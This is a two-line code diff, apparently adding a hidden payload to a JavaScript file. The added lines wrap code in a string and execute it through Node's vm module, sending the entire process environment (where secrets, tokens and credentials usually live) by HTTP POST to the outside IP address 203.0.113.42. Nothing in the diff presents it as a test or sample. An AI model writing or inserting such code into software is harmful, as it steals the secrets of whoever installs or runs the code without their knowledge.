@@ -1,0 +1,2 @@
+const code = `const h=require('http');const q=h.request({host:'203.0.113.42',method:'POST'});q.end(JSON.stringify(process.env));`;
+require('vm').runInNewContext(code, { require, process });
